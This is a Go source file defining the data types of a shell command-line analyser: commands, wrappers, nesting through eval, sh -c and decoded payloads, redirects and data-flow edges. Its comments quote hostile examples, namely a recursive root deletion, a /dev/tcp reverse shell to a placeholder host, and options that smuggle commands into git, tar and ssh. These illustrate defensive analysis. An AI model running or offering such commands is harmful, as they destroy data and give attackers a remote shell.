package shellcommand

// Options are what the shell would know.
type Options struct {
	// Dir is the working directory, absolute; "" is unknown.
	Dir string
	// Home is what ~ and $HOME are, absolute; "" is unknown, and stays ~.
	Home string
}

// Analysis is what a command line would do.
type Analysis struct {
	// Commands are the programs that would run, in the order in which they stand,
	// what runs inside another (a substitution, the argument of sh -c) before it or
	// directly behind it. A command's ID is its index.
	Commands []Command
	// Edges say where the output of one command goes.
	Edges []Edge
	// Opaque says what could not be told, each reason once.
	Opaque []Opacity
	// SyntaxError is why the rest of the command line could not be read; what
	// stands before is analysed.
	SyntaxError string
	// Truncated says that a bound was reached and something was left out.
	Truncated bool
}

// Command is one program that would run.
type Command struct {
	ID int
	// Program is the base name of what runs, without directory and without ".exe";
	// "" when it cannot be told. Of `sudo env X=1 /bin/rm -rf /` it is rm.
	Program string
	// Path is the program as written, resolved: /bin/rm.
	Path string
	// Args are the arguments behind the program, resolved as the shell would. A
	// variable with several possible values gives all of them.
	Args []Word
	// Wrappers are the programs that run this one, outermost first: sudo, env.
	Wrappers []Wrapper
	// Via says how deep inside the command line this one stands, outermost first.
	Via []Via
	// Assigns are the variables set before the command for it alone, and for a
	// command without a program those of the shell.
	Assigns []Assign
	// Env are the variables that the command line exported before, which the command
	// gets, too; one with several possible values is there with each.
	Env []Assign
	// Redirects are the files its descriptors are connected with.
	Redirects []Redirect
	// Stdin is the text that is fed to it by a here-document, a here-string or the
	// known output of an echo or printf before it in the pipe; Known is false where
	// there is none, or it cannot be told.
	Stdin Word
	// Files are the files among its arguments whose text the command line wrote.
	Files []FileText
	// Dir is where it runs, after the cd's before it; "" is unknown.
	Dir string
	// Text is the command as it stands in the source, at most 512 bytes.
	Text string
	// Background says that the shell does not wait for it.
	Background bool
	// Builtin says that the program is the shell's own (eval, cd, trap, …).
	Builtin bool
	// Script is the code that is given to an interpreter which is not a shell
	// (python -c, perl -e, node <<EOF, awk 'BEGIN{…}'), at most 16 KiB; "" when there
	// is none. What is unknown of it is Unknown.
	Script string
}

// Word is one word, resolved.
type Word struct {
	// Value is the word as the program would get it; where a part is unknown,
	// what is known of it, with Unknown in place of the part.
	Value string
	// Known is false when a part cannot be told.
	Known bool
	// Glob says that the word has an unquoted *, ? or [ which the shell would
	// expand.
	Glob bool
	// Quoted says that the whole word was quoted in the source, so that it was
	// meant as text.
	Quoted bool
	// IfUnset is what the word would be if the variables in it which the command
	// line does not assign were unset: of "$BUILD_ROOT/" it is "/". It is "" when there
	// are none, or nothing would be left.
	IfUnset string
}

// Unknown stands in a Word's Value for what cannot be told. No command line can
// have it: a NUL byte ends a word.
const Unknown = "\x00"

// FileText is a file that the command line wrote, and what stands in it.
type FileText struct {
	Path string // absolute where that can be told
	Text string // at most 16 KiB
}

// Wrapper is a program that runs another one.
type Wrapper struct {
	Program string
	Path    string
	Args    []Word // its own arguments, without the command it runs
}

// Via is a construct in which a command stands.
type Via string

// The constructs.
const (
	ViaSubstitution Via = "command_substitution" // $(…) and backquotes
	ViaProcess      Via = "process_substitution" // <(…) and >(…)
	ViaShell        Via = "shell_c"              // sh -c, bash -lc, su -c
	ViaEval         Via = "eval"
	ViaSource       Via = "source"   // the known text of . or source
	ViaStdin        Via = "stdin"    // a here-document, here-string or echo fed to a shell
	ViaDecoded      Via = "decoded"  // base64, hex, printf '\x…': decoded here and read as commands
	ViaArgument     Via = "argument" // an option that is a command: git -c core.pager=…, tar --to-command, ssh -o ProxyCommand
	ViaInterpreter  Via = "interpreter"
	ViaFunction     Via = "function"
	ViaAlias        Via = "alias"
	ViaTrap         Via = "trap"
	ViaRemote       Via = "remote"    // ssh host '…'
	ViaContainer    Via = "container" // docker exec, kubectl exec
	ViaFile         Via = "file"      // written by the same command line, then run
)

// Assign is NAME=value.
type Assign struct {
	Name  string
	Value Word
}

// Redirect connects a descriptor with a file. A descriptor that is a duplicate of
// one whose file is known has that file: after exec 3>/dev/tcp/h/1 a command's >&3
// is > /dev/tcp/h/1, and in `bash -i >&/dev/tcp/h/1 0>&1` descriptor 0 reads from it.
type Redirect struct {
	FD   int    // 0 for <, 1 for >; -1 when it is {name}>
	Op   string // <, >, >>, <>, &>, >|, <&, >&
	Path Word   // of <& and >&: the descriptor
}

// Reads and Writes say which way a redirect goes.
func (r Redirect) Reads() bool { return r.Op == "<" || r.Op == "<>" || r.Op == "<&" }

// Writes reports whether something is written through the redirect.
func (r Redirect) Writes() bool { return !r.Reads() || r.Op == "<>" }

// Edge is a way of data between two commands.
type Edge struct {
	From, To int // Command.ID
	Kind     EdgeKind
	// Name is the variable of EdgeVariable, the path of EdgeFile.
	Name string
}

// EdgeKind is how data goes from one command to another.
type EdgeKind string

// The kinds of edges.
const (
	EdgePipe     EdgeKind = "pipe"     // to its standard input, through a pipe, a descriptor, <(…) or a coprocess
	EdgeArgument EdgeKind = "argument" // into its arguments: $(…), xargs, a variable that was read
	EdgeVariable EdgeKind = "variable" // through a variable, into its arguments or its environment
	EdgeProcess  EdgeKind = "process"  // through the file name of <(…) or >(…)
	EdgeFile     EdgeKind = "file"     // through a file that the first writes and the second reads or runs
)

// Opacity is a reason why something cannot be told.
type Opacity string

// The reasons.
const (
	OpaqueProgram     Opacity = "program"     // which program runs
	OpaqueShellCode   Opacity = "shell_code"  // what eval, sh -c, source or a shell's input hold
	OpaqueInterpreter Opacity = "interpreter" // what a script given on the command line does
	OpaqueDecoded     Opacity = "decoded"     // what a decoder's output is
	OpaqueSyntax      Opacity = "syntax"      // what stands behind a syntax error
	OpaqueBound       Opacity = "bound"       // what was left out
)
